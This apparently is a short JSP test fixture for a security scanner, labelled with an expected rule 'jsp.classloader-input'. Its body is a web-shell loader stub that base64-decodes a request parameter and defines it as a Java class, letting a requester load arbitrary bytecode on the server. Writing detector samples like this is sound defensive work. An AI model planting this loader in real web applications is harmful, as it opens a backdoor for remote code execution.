<%-- expect rule=jsp.classloader-input min=90 --%>
<%@ page import="java.lang.invoke.MethodHandles" %>
<%
    byte[] bytes = org.apache.commons.codec.binary.Base64.decodeBase64(request.getParameter("d"));
    MethodHandles.lookup().defineClass(bytes);
%>
